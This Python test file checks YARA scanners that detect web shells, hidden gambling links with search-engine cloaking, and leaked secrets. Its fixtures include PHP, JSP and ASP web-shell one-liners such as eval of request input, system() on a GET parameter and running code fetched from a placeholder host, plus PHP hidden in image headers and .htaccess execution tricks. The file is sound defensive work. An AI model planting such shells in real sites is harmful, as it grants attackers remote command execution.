"""Our own rules: each finds what it is for, and honest code is left in peace."""

from __future__ import annotations

from pathlib import Path

import pytest

from tapak.scanning.scanners import yara
from tapak.scanning.scanners.yara import RULES, HiddenLinkScanner, SecretScanner, WebShellScanner, YaraScanner
from tapak.sdk.scanning import Finding, ScannedFile, ScannerProblem

KEY = b"-----BEGIN RSA PRIVATE KEY-----\n" + b"MIIEowIBAAKCAQEA0123456789abcdefABCDEF0123456789abcdefABCDEF0123\n" * 3
TOKEN = b"ghp_" + b"a1B2" * 9


def found(folder: Path, scanner: type[YaraScanner], name: str, content: bytes) -> list[Finding]:
    place = folder / "0"
    place.write_bytes(content)
    made = scanner(folder)
    made.prepare()
    return list(made.scan([ScannedFile(name, len(content), place)]))


@pytest.mark.parametrize(
    ("name", "content", "rule"),
    [
        ("a.php", b"<?php @eval($_POST['x']);", "php_evaluates_request"),
        ("a.php", b"<?php assert(base64_decode($_REQUEST['x']));", "php_evaluates_request"),
        ("a.php", b"<?php $_GET['a']($_POST['b']);", "php_evaluates_request"),
        ("a.php", b"<?php system($_GET['c']);", "php_runs_command_of_request"),
        ("a.php", b"<?php eval(gzinflate(base64_decode('x')));", "php_evaluates_hidden_code"),
        ("a.php", b"<?php eval('?>'.file_get_contents('https://x.example/a'));", "php_fetches_and_runs"),
        ("a.php", b"<?php // IndoXploit shell", "known_shell_by_name"),
        ("a.jpg", b"GIF89a;<?php echo 1;", "php_in_picture"),
        ("foto.png", b"\x89PNG\r\n\x1a\n<?php echo 1;", "php_in_picture"),
        ("public/uploads/2024/x.php", b"<?php echo 1;", "script_named_as_upload"),
        (".htaccess", b"AddHandler application/x-httpd-php .jpg", "htaccess_runs_other_files"),
        ("a/.user.ini", b"auto_prepend_file=x.jpg", "htaccess_runs_other_files"),
        ("a/.user.ini", b"auto_prepend_file = 'x'", "htaccess_runs_other_files"),
        ("a.jsp", b'Runtime.getRuntime().exec(request.getParameter("c"))', "jsp_or_asp_shell"),
        ("a.asp", b'<%eval request("c")%>', "jsp_or_asp_shell"),
        ("info.php", b"<?php phpinfo();", "php_information_page"),
    ],
)
def test_back_doors(tmp_path: Path, name: str, content: bytes, rule: str) -> None:
    assert rule in {each.rule for each in found(tmp_path, WebShellScanner, name, content)}


@pytest.mark.parametrize(
    ("name", "content"),
    [
        ("a.php", b"<?php $r = $pdo->exec('select 1'); $x = system_name($_POST['a']);"),
        ("a.php", b"<?php echo htmlspecialchars($_GET['q']); $f = base64_decode($row['foto']);"),
        ("a.php", b"<?php call_user_func([$this, 'x'], $value); preg_replace('/e/i', 'x', $_GET['q']);"),
        ("a.php", b"<?php require_once 'vendor/autoload.php'; include $base . '/x.php';"),
        ("uploads/index.html", b"<p>kosong</p>"),
        ("app/upload.php", b"<?php move_uploaded_file($a, $b);"),
        (".htaccess", b"RewriteEngine On\nAddType image/webp .webp\nphp_value upload_max_filesize 8M\n"),
        ("a.js", b"eval(base64)"),
        ("a.jpg", b"\xff\xd8\xff\xe0" + b"xyz" * 100),
    ],
)
def test_honest_code(tmp_path: Path, name: str, content: bytes) -> None:
    assert found(tmp_path, WebShellScanner, name, content) == []


LINK = b"<a href='https://x.example/slot-gacor'>slot gacor</a>"


@pytest.mark.parametrize(
    ("name", "content", "rule", "severity"),
    [
        ("a.html", b"<div style='display: none'>" + LINK, "gambling_links_hidden", "critical"),
        (
            "a.html",
            b'<p style="position:absolute;left:-9999px">\n\njudi online</p>',
            "gambling_links_hidden",
            "critical",
        ),
        ("a.html", b"<span style='font-size:0'>RTP slot maxwin", "gambling_links_hidden", "critical"),
        ("a.html", LINK, "gambling_links", "high"),
        (
            "a.php",
            b"<?php if (strpos($_SERVER['HTTP_USER_AGENT'], 'Googlebot')) echo 'slot gacor';",
            "gambling_shown_to_search_engines",
            "critical",
        ),
        ("a.php", b"<?php if (preg_match('/googlebot/i', $ua)) { include 'amp.txt'; exit; }", "cloaking", "high"),
        ("a.html", b"judi online, slot gacor, togel", "gambling_mentioned", "medium"),
    ],
)
def test_planted_links(tmp_path: Path, name: str, content: bytes, rule: str, severity: str) -> None:
    told = {each.rule: each.severity for each in found(tmp_path, HiddenLinkScanner, name, content)}
    assert told.get(rule) == severity


@pytest.mark.parametrize(
    ("name", "content"),
    [
        ("a.html", b"<p>Diskominfo mengimbau warga menjauhi judi online.</p>"),
        (
            "a.vue",
            b"<div style='display:none'><template v-slot:header>slot online</template>".replace(b"slot online", b"x"),
        ),
        ("a.html", b"<nav style='display:none'>" + b"<p>menu</p>" * 60 + b"<article>Bahaya judi online</article>"),
        ("robots.php", b"<?php if (strpos($ua, 'Googlebot')) { log_visit($ua); }"),
        ("a.html", b"<a href='https://pontive.example/loker-it'>Lowongan</a> timeslot online"),
    ],
)
def test_honest_pages(tmp_path: Path, name: str, content: bytes) -> None:
    assert found(tmp_path, HiddenLinkScanner, name, content) == []


@pytest.mark.parametrize(
    ("name", "content", "rule"),
    [
        ("k.pem", KEY, "private_key"),
        (".env", b"A=1\nDB_PASSWORD=Rahasia123\n", "password_in_env"),
        ("app/.env.production", b"MAIL_PASSWORD='Rahasia 123'\n".replace(b" ", b"_"), "password_in_env"),
        ("wp-config.php", b"define('DB_PASSWORD', 'Rahasia123');", "database_password_in_code"),
        ("config/database.php", b"'password' => 'Rahasia123',", "database_password_in_code"),
        ("x.php", b"new mysqli('localhost', 'root', 'Rahasia123', 'db')", "database_password_in_code"),
        ("x.py", b"postgresql://app:Rahasia123@db.example/x", "password_in_address"),
        ("x.js", b"const t = '" + TOKEN + b"'", "service_token"),
        ("x.php", b"'key' => 'base64:" + b"A" * 43 + b"=',", "application_key_in_code"),
        (".git/config", b"[core]\n", "history_left_behind"),
        ("db.sql", b"-- MySQL dump 10.13\nINSERT INTO `warga` VALUES (1);", "database_dump"),
    ],
)
def test_secrets(tmp_path: Path, name: str, content: bytes, rule: str) -> None:
    told = [each for each in found(tmp_path, SecretScanner, name, content) if each.rule == rule]
    assert told
    for finding in told:
        assert not {"Rahasia123", "Rahasia_123", TOKEN.decode(), "MIIEow"} & {
            word for word in ("Rahasia123", "Rahasia_123", TOKEN.decode(), "MIIEow") if word in finding.evidence
        }


@pytest.mark.parametrize(
    ("name", "content"),
    [
        (".env", b'DB_PASSWORD=\nMAIL_PASSWORD=null\nREDIS_PASSWORD=""\nAPP_KEY=${KEY}\n'),
        (".env.example", b"DB_PASSWORD=Rahasia123\n"),
        ("config/database.php", b"'password' => env('DB_PASSWORD', ''),"),
        ("config/database.php", b"'password' => 'password',"),
        ("resources/lang/id/auth.php", b"'password' => 'Kata sandi yang Anda masukkan salah.',"),
        ("x.md", b"https://user:@x.example and https://x.example:8080/@a"),
        ("x.pem", b"-----BEGIN CERTIFICATE-----\nMIIEow\n"),
        ("x.pem", b"-----BEGIN PUBLIC KEY-----\nMIIEow\n"),
        ("schema.sql", b"create table warga (id int);"),
    ],
)
def test_no_secrets(tmp_path: Path, name: str, content: bytes) -> None:
    assert found(tmp_path, SecretScanner, name, content) == []


def test_the_line_is_the_one_that_an_editor_shows(tmp_path: Path) -> None:
    told = found(tmp_path, SecretScanner, ".env", b"A=1\nB=2\nDB_PASSWORD=Rahasia123\n\nX_TOKEN=abcdefg\n")
    assert [each.line for each in told] == [3, 5]


@pytest.mark.parametrize("scanner", [WebShellScanner, HiddenLinkScanner, SecretScanner])
def test_the_age_of_rules_is_when_they_were_written(tmp_path: Path, scanner: type[YaraScanner]) -> None:
    told = scanner(tmp_path).prepare().signatures_at
    assert told is not None
    assert told.date().isoformat() in (RULES / scanner.files[0]).read_text().splitlines()[0]


def test_an_agency_adds_rules_of_its_own(tmp_path: Path) -> None:
    (tmp_path / "rules").mkdir()
    own = tmp_path / "rules" / "kota.yar"
    own.write_text(
        'rule kota : own { meta: severity = "low" text = "Tanda kami" strings: $a = "kota-x" condition: $a }'
    )
    told = found(tmp_path, WebShellScanner, "a.txt", b"ini kota-x")
    assert [(each.rule, each.severity, each.text) for each in told] == [("kota", "low", "Tanda kami")]
    own.write_text("rule broken {")
    with pytest.raises(ScannerProblem, match=r"kota\.yar"):
        WebShellScanner(tmp_path).prepare()


@pytest.mark.parametrize("scanner", [WebShellScanner, HiddenLinkScanner, SecretScanner])
def test_what_lies_behind_a_long_beginning_is_not_called_clean(
    tmp_path: Path, scanner: type[YaraScanner], monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(yara, "LARGEST", 1000)
    behind = b"<?php /*" + b"x" * 1000 + b"*/ @eval($_POST['x']);"
    assert {(each.rule, each.severity) for each in found(tmp_path, scanner, "a.php", behind)} == {
        ("not_seen_whole", "high")
    }
